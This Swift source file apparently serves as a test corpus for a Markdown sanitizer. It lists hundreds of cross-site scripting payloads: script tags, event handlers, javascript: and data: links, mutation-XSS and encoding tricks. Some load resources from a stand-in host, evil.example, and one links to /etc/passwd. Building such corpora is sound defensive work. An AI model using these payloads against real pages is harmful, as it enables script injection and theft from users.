/// Texts that tried to run a script on somebody's page somewhere, and their kin.
enum HostileMarkdown {
    static let all = tags + handlers + schemes + markdown + mutations + encodings + structures

    /// One of the characters by which passes over a text mark it; no literal may hold it.
    private static func mark(_ last: UInt8) -> String { String(decoding: [0xEF, 0xB7, last], as: UTF8.self) }

    static let tags = [
        "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<script >alert(1)</script >",
        "<script/src=data:,alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<SCRIPT>alert(1);//<</SCRIPT>",
        "<script\n>alert(1)</script\n>", "<script>alert(1)", "</script><script>alert(1)</script>",
        "<script type=module>import 'http://evil.example'</script>", "<script\u{0B}>alert(1)</script>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<style>@import 'http://evil.example';</style>",
        "<style>*{background:url(http://evil.example)}</style>", "<style><img src=x onerror=alert(1)></style>",
        "<form action=javascript:alert(1)><input type=submit></form>", "<form><button formaction=javascript:alert(1)>x",
        "<isindex type=image src=1 onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>", "<frameset onload=alert(1)>", "<body onload=alert(1)>",
        "<html onmouseover=alert(1)>", "<title><script>alert(1)</script></title>", "<plaintext><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>", "<dialog open onclose=alert(1)>x</dialog>",
        "<portal src=javascript:alert(1)>", "<blink>x</blink>", "<x-custom onclick=alert(1)>x</x-custom>",
        "<slot onslotchange=alert(1)></slot>", "<template><script>alert(1)</script></template>",
    ]

    static let handlers = [
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x\nonerror\n=\nalert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">", "<IMG SRC=x OnErRoR=alert(1)>", "<img src=x:x onerror=alert(1)//",
        "<img src='a.png' onload='alert(1)'>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=# onmouseover=alert(1)>",
        "<a onclick=alert(1)>x</a>", "<a href=x onmouseover=alert(1)>x</a>", "<b onclick=alert(1)>x</b>",
        "<p style='background:url(javascript:alert(1))'>x</p>", "<div style=width:expression(alert(1))>x</div>",
        "<div style=\"position:fixed;inset:0\">x</div>", "<details open ontoggle=alert(1)>x</details>",
        "<summary onclick=alert(1)>x</summary>", "<td onclick=alert(1)>x", "<table background=javascript:alert(1)><tr><td>x</table>",
        "<table><td background='javascript:alert(1)'>x</table>", "<h1 onclick=alert(1)>x</h1>",
        "<div\u{0C}onclick=alert(1)>x</div>", "<a\thref=x\tonclick=alert(1)>x</a>", "<div/onclick=alert(1)>x</div>",
        "<div onclick\u{0}=alert(1)>x</div>", "<div data-copy='x' data-island='//evil.example/x.mjs'>x</div>",
        "<div hx-get=/logout hx-trigger=load>x</div>", "<div contenteditable onbeforeinput=alert(1)>x</div>",
        "<a ping=//evil.example href=x>x</a>", "<a target=_top download href=x>x</a>", "<img src=a.png usemap=#x srcset='//evil.example/x 2x'>",
        "<img src=a.png srcset='javascript:alert(1) 1x'>", "<picture><source srcset='//evil.example/x'><img src=//evil.example/y></picture>",
        "<q cite=javascript:alert(1)>x</q>", "<ins cite=javascript:alert(1)>x</ins>", "<img longdesc=javascript:alert(1) src=a.png>",
        "<img src=a.png lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>", "<li type=x style=x onclick=alert(1)>x</li>",
        "<div id=csrf name=csrf>x</div>", "<a name=getElementById>x</a>", "<img name=body src=a.png>", "<div class='alert bad toast'>x</div>",
    ]

    static let schemes = [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)",
        "[x](java\tscript:alert(1))", "[x](<java\nscript:alert(1)>)", "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))", "[x](&#0000106avascript:alert(1))", "[x](java&Tab;script:alert(1))",
        "[x](java&NewLine;script:alert(1))", "[x](javascript&colon;alert(1))", "[x](javascript&#58;alert(1))",
        "[x](\\javascript:alert(1))", "[x](javas\\cript:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x](file:///etc/passwd)", "[x](blob:http://evil.example/1)", "[x](view-source:http://evil.example)", "[x](feed:javascript:alert(1))",
        "[x](jar:http://evil.example!/x)", "[x](ms-msdt:/id)", "[x](intent://evil.example#Intent;end)", "[x](about:blank)",
        "[x](filesystem:http://evil.example/temporary/x)", "[x](x-javascript:alert(1))", "[x](livescript:alert(1))", "[x](mocha:alert(1))",
        "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<data:text/html,x>", "<vbscript:x>", "[x]: javascript:alert(1)\n\n[x]",
        "[x]: <javascript:alert(1)> 'y'\n\n[x]", "[x][y]\n\n[y]: data:text/html,x", "![x](javascript:alert(1))", "![x](data:text/html,x)",
        "![x](data:image/png;base64,AAAA)", "![x](//evil.example/x.png)", "![x](/\\evil.example/x.png)", "![x](\\\\evil.example\\x.png)",
        "![x](http://evil.example/x.png)", "![x](https:/\\evil.example/x.png)", "![x](/\t/evil.example/x.png)", "![x](<//evil.example/a b>)",
        "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href=\"java\u{0}script:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", "<a href=\"&#14; javascript:alert(1)\">x</a>",
        "<a href=\"\u{01}javascript:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116(1)>x</a>",
        "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>x</a>",
        "<a href=javascript&colon;alert(1)>x</a>", "<a href='javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>'>x</a>",
        "<a xlink:href=javascript:alert(1)>x</a>", "<a href=x href=javascript:alert(1)>x</a>", "<a href=javascript:alert(1) href=x>x</a>",
        "<img src=javascript:alert(1)>", "<img src=`javascript:alert(1)`>", "<img src=\"jav\tascript:alert(1);\">",
        "@[x](javascript:alert(1))", "www.evil.example\"onclick=alert(1)", "http://evil.example/\"onmouseover=\"alert(1)",
        "<http://evil.example/\"onmouseover=\"alert(1)>", "<x@evil.example\"onclick=alert(1)>",
    ]

    static let markdown = [
        "[x](http://a \"onclick=alert(1)\")", "[x](http://a '\"><script>alert(1)</script>')", "[x](http://a (\"><img src=x onerror=alert(1)>))",
        "![\"onerror=\"alert(1)](a.png)", "![x\" onerror=\"alert(1)](a.png)", "![<img src=x onerror=alert(1)>](a.png)",
        "![x](a.png \"\\\" onerror=alert(1)\")", "![`\" onerror=alert(1)`](a.png)", "[<script>alert(1)</script>](x)", "[`<script>`](x)",
        "`<script>alert(1)</script>`", "```\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```",
        "```html onclick=alert(1)\n<b>\n```", "~~~<img/src=x/onerror=alert(1)>\nx\n~~~", "    <script>alert(1)</script>",
        "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\nclick A javascript:alert(1)\n```", "```math\n</span><script>alert(1)</script>\n```",
        "$$</span><script>alert(1)</script>$$", "$$\\href{javascript:alert(1)}{x}$$", "\\\\(<img src=x onerror=alert(1)>\\\\)",
        "`$$<script>$$`", "<a title='$$x$$' href='$$javascript:alert(1)$$'>x</a>", "# <script>alert(1)</script>", "# \"><img src=x onerror=alert(1)>",
        "# `</h2><script>`", "<h2 id='\"><script>alert(1)</script>'>x</h2>", "|<script>alert(1)</script>|x|\n|-|-|\n|<img src=x onerror=alert(1)>|y|",
        "| a |\n|-|\n| </table><script>alert(1)</script> |", "- [x] <img src=x onerror=alert(1)>", "> <script>alert(1)</script>",
        "> [!NOTE]<script>alert(1)</script>", "> [!\"><script>]\n> x", "@<script>alert(1)</script>", "@a\"onclick=alert(1)",
        "[x][<script>]\n\n[<script>]: x", "*<b onclick=alert(1)>*", "**[x](javascript:alert(1))**", "[![x](javascript:alert(1))](javascript:alert(1))",
        "[x](<a\"b>)", "[x](a'b)", "[x](a`b)", "[x](#\"><script>alert(1)</script>)", "[x](?q=<script>)", "[x](..//evil.example)", "[x](//evil.example)",
        "<!-- --><script>alert(1)</script><!-- -->", "<!-- > <img src=x onerror=alert(1)> -->", "<?php echo '<script>alert(1)</script>' ?>",
        "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY y '<script>'>]>&y;", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "&lt<script>alert(1)</script>",
        "\(mark(0x90))0\(mark(0x91))<script>", "$$a$$ \(mark(0x90))0\(mark(0x91)) &#xFDD0;0&#xFDD1;", "&#xFDD3;x&#xFDD4;(javascript:alert(1))",
    ]

    static let mutations = [
        "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<svg><use href=data:image/svg+xml,x></use></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext></p><style><img src=x onerror=alert(1)></style>", "<math href=javascript:alert(1)>x</math>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">", "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
        "<style><p title=\"</style><img src=x onerror=alert(1)>\">", "<p title=\"--><img src=x onerror=alert(1)>\"><!--",
        "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!--x--!><img src=x onerror=alert(1)>-->",
        "<!-- x -- ><img src=x onerror=alert(1)>", "<a/href=\"<\">x</a><img src=x onerror=alert(1)>", "<template><img src=x onerror=alert(1)></template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
        "<table><style><img src=x onerror=alert(1)></style></table>", "<p><svg><p><style><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<a title=\"`\" href=x>`onclick=alert(1)</a>", "<img alt=\"`\"><img src=`x`onerror=alert(1)>", "<x/><title>&lt;/title>&lt;img src=1 onerror=alert(1)>",
    ]

    static let encodings = [
        "%3Cscript%3Ealert(1)%3C/script%3E", "\u{FF1C}script\u{FF1E}alert(1)", "\u{2028}<script>alert(1)</script>", "<script\u{A0}>alert(1)</script>",
        "<\u{0}script>alert(1)</script>", "<s\u{0}cript>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<ſcript>alert(1)</ſcript>",
        "<a href=javaſcript:alert(1)>x</a>", "\u{FEFF}<script>alert(1)</script>", "<img src=x onerror\u{2028}=alert(1)>", "<İmg src=x onerror=alert(1)>",
        "<a href=\"javascript\u{FF1A}alert(1)\">x</a>", "[x](\u{200B}javascript:alert(1))", "[x](\u{A0}javascript:alert(1))", "<scrıpt>alert(1)</scrıpt>",
    ]

    static let structures = [
        "</div></div></main></body><script>alert(1)</script>", "</markdown></div><img src=x onerror=alert(1)>", "<div>".repeated(300), "</div>".repeated(300),
        "<table><table><table>", "<tr><td>x</td></tr>", "<li>x</li>", "<p><div>x</p></div>", "<b><i></b></i>", "<a><a><a>", "<p>\n\n<p>\n\n</p>",
        "<table><div>x</div></table>", "<ul><p>x</p></ul>", "<h1><h2>x</h1></h2>", "<details><details><summary>", "<a href=x>[y](z)</a>", "[<a href=x>y</a>](z)",
        "[[x](y)](z)", "**<div>**</div>", "> <div>\n\n</div>", "- <b>\n- </b>", "|<b>|\n|-|\n|</b>|", "<pre><code>```\n<b>\n```</code></pre>", "<br></br></p>",
        "<div", "<div class=\"", "<a href='", "<img src=", "<", "</", "<!", "<!-", "<!--", "<?", "&", "&#", "&#x", "&#x110000;", "&#xD800;", "&#0;",
        "<col><colgroup><col></colgroup>", "<table><caption><table></caption>", "<picture><picture><source>", "<dl><dd><dt><dl>", "<summary>x</summary>",
        "<table>\n\n# x\n\n|a|\n|-|\n\n</table>", "<svg>\n\n# x\n\n</svg>y", "<script>\n\n# x\n\n</script>y", "x <script> *y* </script> z",
    ]
}

extension String {
    func repeated(_ count: Int) -> String { String(repeating: self, count: count) }
}
